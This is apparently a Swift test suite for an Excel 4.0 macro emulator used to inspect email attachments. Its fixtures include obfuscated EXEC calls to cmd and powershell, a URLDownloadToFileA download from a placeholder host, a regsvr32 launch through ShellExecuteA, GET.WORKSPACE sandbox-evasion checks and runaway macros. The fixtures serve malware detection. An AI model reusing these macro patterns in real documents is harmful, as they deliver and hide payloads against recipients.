import MailModel
import Testing

@testable import AttachmentInspection

@Suite struct MacroEmulatorTests {
  /// Runs cells of one macrosheet from `A1`, as `Auto_Open` does.
  private func run(_ cells: [String: String], values: [String: MacroValue] = [:]) -> [MacroEffect] {
    var workbook = MacroWorkbook()
    workbook.add(sheet: "Macro1", isMacrosheet: true)
    workbook.add(sheet: "Data 2", isMacrosheet: false)
    workbook.add(name: "Auto_Open", formula: "=Macro1!$A$1")
    for (name, formula) in cells {
      guard let address = MacroAddress(name) else { continue }
      workbook.set(.init(sheet: 0, row: address.row, column: address.column), formula: formula, value: .empty)
    }
    for (name, value) in values {
      guard let address = MacroAddress(name) else { continue }
      workbook.set(.init(sheet: 1, row: address.row, column: address.column), value: value)
    }
    var emulator = MacroEmulator(workbook)
    emulator.runAll(autoNames: ["Auto_Open"])
    return emulator.effects
  }

  private func calls(_ cells: [String: String], values: [String: MacroValue] = [:]) -> [String] {
    run(cells, values: values).filter { $0.kind.acts }.map(\.text)
  }

  @Test(
    arguments: [
      (["A1": "=EXEC(CHAR(99)&CHAR(109)&\"d /c x\")"], "=EXEC(\"cmd /c x\")"),
      (["A1": "=EXEC(B1&B2)", "B1": "=\"po\"&\"wer\"", "B2": "=MID(\"xxshellyy\",3,5)"], "=EXEC(\"powershell\")"),
      (["A1": "=SET.VALUE(C1,\"calc\")", "A2": "=EXEC(C1)"], "=EXEC(\"calc\")"),
      (["A1": "=SET.NAME(\"c\",\"calc\")", "A2": "=EXEC(c)"], "=EXEC(\"calc\")"),
      (["A1": "=DEFINE.NAME(\"c\",\"ca\"&\"lc\")", "A2": "=EXEC(c)"], "=EXEC(\"calc\")"),
      (["A1": "=FORMULA(\"=EXEC(\"\"calc\"\")\",A3)", "A2": "=GOTO(A3)"], "=EXEC(\"calc\")"),
      (["A1": "=FORMULA(\"=EXEC(R1C2)\",A3)", "B1": "=\"calc\""], "=EXEC(\"calc\")"),
      (["A1": "=GOTO(C5)", "C5": "=EXEC(\"calc\")"], "=EXEC(\"calc\")"),
      (["A1": "=RUN(C5)", "A2": "=EXEC(\"second\")", "C5": "=RETURN()"], "=EXEC(\"second\")"),
      (["A1": "=C5()", "C5": "=EXEC(\"calc\")", "C6": "=RETURN()"], "=EXEC(\"calc\")"),
      (["A1": "=IF(GET.WORKSPACE(42),,CLOSE(TRUE))", "A2": "=EXEC(\"calc\")"], "=EXEC(\"calc\")"),
      (["A1": "=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)", "A2": "=EXEC(\"calc\")"], "=EXEC(\"calc\")"),
      (
        ["A1": "=IF(ISNUMBER(SEARCH(\"Windows\",GET.WORKSPACE(1))),GOTO(A5),CLOSE())", "A5": "=EXEC(\"x\")"],
        "=EXEC(\"x\")"
      ),
      (["A1": "=IF(GET.WORKSPACE(31),EXEC(\"one\"),EXEC(\"two\"))"], "=EXEC(\"one\")"),
      (
        [
          "A1": "=REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"Dl\",,1,9)",
          "A2": "=Dl(0,\"http://x.example/a\",\"c\",0,0)",
        ],
        "=urlmon.URLDownloadToFileA(0,\"http://x.example/a\",\"c\",0,0)"
      ),
      (
        ["A1": "=WHILE(LEN(s)<4)", "A2": "=SET.NAME(\"s\",s&\"x\")", "A3": "=NEXT()", "A4": "=EXEC(s)"],
        "=EXEC(\"#NAME?x\")"
      ),
      (
        [
          "A1": "=SET.NAME(\"s\",\"\")", "A2": "=WHILE(LEN(s)<4)", "A3": "=SET.NAME(\"s\",s&\"x\")", "A4": "=NEXT()",
          "A5": "=EXEC(s)",
        ], "=EXEC(\"xxxx\")"
      ),
      (
        [
          "A1": "=SET.NAME(\"s\",\"\")", "A2": "=FOR(\"i\",1,3)", "A3": "=SET.NAME(\"s\",s&CHAR(64+i))",
          "A4": "=NEXT()",
          "A5": "=EXEC(s)",
        ], "=EXEC(\"ABC\")"
      ),
      (
        [
          "A1": "=SET.NAME(\"s\",\"\")", "A2": "=FOR.CELL(\"c\",B1:B2)", "A3": "=SET.NAME(\"s\",s&CHAR(c))",
          "A4": "=NEXT()",
          "A5": "=EXEC(s)", "B1": "=72", "B2": "=73",
        ], "=EXEC(\"HI\")"
      ),
      (["A1": "=EXEC(SUBSTITUTE(\"cXmXd\",\"X\",\"\")&REPT(\"!\",2)&UPPER(\"a\"))"], "=EXEC(\"cmd!!A\")"),
      (["A1": "=EXEC(INDEX(B1:B3,2))", "B2": "=\"calc\""], "=EXEC(\"calc\")"),
      (["A1": "=EXEC(OFFSET(B1,1,1))", "C2": "=\"calc\""], "=EXEC(\"calc\")"),
      (["A1": "=EXEC(INDIRECT(\"C\"&2))", "C2": "=\"calc\""], "=EXEC(\"calc\")"),
      (
        ["A1": "=IF(1=2)", "A2": "=EXEC(\"no\")", "A3": "=ELSE()", "A4": "=EXEC(\"yes\")", "A5": "=END.IF()"],
        "=EXEC(\"yes\")"
      ),
      (
        [
          "A1": "=CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"regsvr32\",B1,0,5)",
          "B1": "=\"-s \"&\"a.dll\"",
        ],
        "=CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"regsvr32\",\"-s a.dll\",0,5)"
      ),
      (["A1": "=HALT()", "A2": "=EXEC(\"behind the end\")"], "=EXEC(\"behind the end\")"),
      (["A1": "=EVALUATE(\"EXEC(\"\"calc\"\")\")"], "=EXEC(\"calc\")"),
      (["A1": "=ON.TIME(NOW()+1,\"Macro1!C5\")", "C5": "=EXEC(\"later\")"], "=EXEC(\"later\")"),
    ] as [([String: String], String)])
  func resolvesWhatIsCalled(cells: [String: String], call: String) {
    #expect(calls(cells).contains(call), "\(calls(cells))")
  }

  @Test func cellsOfOtherSheetsAreRead() {
    #expect(
      calls(["A1": "=EXEC('Data 2'!B7&'Data 2'!$B$8)"], values: ["B7": .text("ca"), "B8": .text("lc")])
        == ["=EXEC(\"calc\")"])
  }

  @Test func onlyWhatTheNameStartsRunsByItself() {
    let effects = run(["A1": "=EXEC(\"one\")", "A2": "=HALT()", "D1": "=EXEC(\"button\")"])
    #expect(effects.map(\.text) == ["=EXEC(\"one\")", "=EXEC(\"button\")"])
    #expect(effects.map(\.runsByItself) == [true, false])
  }

  @Test(
    arguments: [
      ["A1": "=GOTO(A1)"], ["A1": "=A1()"], ["A1": "=B1()", "B1": "=A1()"], ["A1": "=B1", "B1": "=C1", "C1": "=B1"],
      ["A1": "=B1", "B1": "=INDIRECT(\"B1\")"], ["A1": "=B1", "B1": "=SUM(B1:B2)"],
      ["A1": "=x", "B1": "=EVALUATE(B1)"],
      ["A1": "=FORMULA(\"=FORMULA(A1,A2)\",A2)", "A3": "=GOTO(A1)"],
      ["A1": "=SET.NAME(\"s\",REPT(\"x\",60000))", "A2": "=SET.NAME(\"s\",s&s&s&s)", "A3": "=GOTO(A2)"],
      ["A1": "=WHILE(TRUE)", "A2": "=NEXT()"], ["A1": "=FOR(\"i\",1,1E9)", "A2": "=NEXT()"],
      ["A1": "=IF(GET.WORKSPACE(1),GOTO(A1),GOTO(A1))"], ["A1": "=CONCATENATE(A1:XFD1048576)"],
      ["A1": "=FORMULA.FILL(\"x\",A1:XFD1048576)"], ["A1": "=" + String(repeating: "(", count: 5_000)],
      ["A1": "=" + String(repeating: "-", count: 5_000) + "1"],
      ["A1": "=CHAR(-1)&CHAR(1E300)&MID(1,-5,-5)&RIGHT(1,-1)"],
      ["A1": "=INDEX(A1:A1,1E18,1E18)&OFFSET(A1,-5,-1E300)&BITLSHIFT(1E9,1E9)&FACT(1E300)&ROUND(1,1E300)"],
    ] as [[String: String]])
  func hostileMacrosEnd(cells: [String: String]) { #expect(run(cells).count <= 400) }

  @Test(arguments: [
    ("R1C1", 0, 0, false), ("$B$3", 2, 1, false), ("R[-1]C", -1, 0, true), ("XFD1048576", 1_048_575, 16_383, false),
  ])
  func readsAddresses(text: String, row: Int, column: Int, isRelative: Bool) {
    #expect(MacroAddress(text)?.row == row)
    #expect(MacroAddress(text)?.column == column)
    #expect(MacroAddress(text)?.isRowRelative == isRelative)
  }

  @Test(arguments: ["A", "1", "A0", "Auto_Open", "ABCD1", "R1", "", "R[1C1"])
  func namesAreNoAddresses(text: String) { #expect(MacroAddress(text) == nil || text == "R1") }
}
